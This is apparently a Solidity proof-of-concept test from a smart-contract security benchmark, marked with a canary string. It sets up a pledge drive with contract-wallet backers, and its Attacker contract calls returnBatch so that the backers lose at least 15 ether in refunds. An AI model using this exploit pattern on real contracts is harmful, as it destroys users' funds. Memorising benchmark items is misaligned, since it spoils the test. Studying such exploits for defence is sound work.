// SPDX-License-Identifier: MIT
// canary: assay-canary-322666be-1964-434b-8a2b-6bdf57db5b43
pragma solidity 0.4.26;

import "./PlayhousePledges.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function addr(uint256 key) external returns (address);
}

// A multi-owner style wallet: it keeps a record of what comes in, which takes more than 2300 gas.
contract ClubWallet {
    uint256 public received;
    uint256 public entries;

    function () external payable {
        received += msg.value;
        entries += 1;
    }

    function pledge(PlayhousePledges drive, uint256 amount) external {
        drive.pledge.value(amount)();
    }

    function claim(PlayhousePledges drive) external {
        drive.claim();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    PlayhousePledges internal drive;
    Attacker internal spoiler;
    ClubWallet internal clubA;
    ClubWallet internal clubB;
    address internal carol;

    function setUp() public {
        vm.warp(1700000000);
        drive = new PlayhousePledges(address(0xF00D), 100 ether, 30);
        carol = vm.addr(0xCA401);
        clubA = new ClubWallet();
        clubB = new ClubWallet();
        vm.deal(carol, 3 ether);
        vm.deal(address(clubA), 10 ether);
        vm.deal(address(clubB), 5 ether);

        clubA.pledge(drive, 10 ether);
        vm.prank(carol);
        drive.pledge.value(3 ether)();
        clubB.pledge(drive, 5 ether);

        vm.warp(1700000000 + 30 days);
        drive.conclude();
        require(drive.stage() == PlayhousePledges.Stage.Returning, "stage");

        spoiler = new Attacker(drive);
    }

    // What the backers have or can still get.
    function recoverable() public view returns (uint256) {
        return address(clubA).balance + address(clubB).balance + carol.balance
            + drive.pledges(address(clubA)) + drive.pledges(address(clubB)) + drive.pledges(carol);
    }

    function test_Regular() public {
        require(drive.backerCount() == 3, "backers");
        require(drive.raised() == 18 ether, "raised");
        clubA.claim(drive);
        require(address(clubA).balance == 10 ether && clubA.received() == 10 ether, "clubA claimed");
        require(drive.pledges(address(clubA)) == 0, "clubA settled");

        drive.returnBatch(2);
        require(drive.cursor() == 2, "cursor");
        require(carol.balance == 3 ether && drive.pledges(carol) == 0, "carol repaid");

        clubB.claim(drive);
        require(address(clubB).balance == 5 ether, "clubB claimed");
        drive.returnBatch(uint256(-1));
        require(drive.cursor() == 3 && address(drive).balance == 0, "all returned");

        vm.warp(drive.concludedAt() + drive.CLAIM_TERM());
        drive.closeBooks();
    }

    function exploit() public {
        spoiler.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before - recoverable() >= 15 ether, "nothing lost");
    }

    function target() public view returns (address) {
        return address(drive);
    }

    function attacker() public view returns (address) {
        return address(spoiler);
    }
}

contract Attacker {
    PlayhousePledges internal drive;

    constructor(PlayhousePledges _drive) public {
        drive = _drive;
    }

    function run() external {
        drive.returnBatch(drive.backerCount());
    }
}
